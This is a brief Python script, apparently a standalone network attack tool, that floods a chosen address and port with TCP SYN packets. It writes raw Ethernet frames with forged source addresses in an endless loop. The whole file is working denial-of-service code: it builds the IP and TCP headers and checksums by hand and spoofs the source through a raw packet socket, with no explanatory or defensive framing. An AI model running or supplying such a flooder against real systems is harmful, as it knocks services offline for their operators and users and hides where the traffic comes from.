"""SYNs from forged addresses until it is ended: interface, MAC address of the next hop, address, port."""
import random
import socket
import struct
import sys

interface, mac, address, port = sys.argv[1:]
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
raw.bind((interface, 0))
ethernet = bytes.fromhex(mac.replace(":", "")) + raw.getsockname()[4] + b"\x08\x00"
destination = socket.inet_aton(address)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF


while True:
    source = struct.pack("!I", 0xC6120000 | random.getrandbits(17))
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0x4000, 64, 6, 0, source, destination)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    tcp = struct.pack("!HHIIBBHHH", random.randint(1024, 65535), int(port), random.getrandbits(32), 0, 0x50, 2, 65535, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    raw.send(ethernet + ip + tcp)
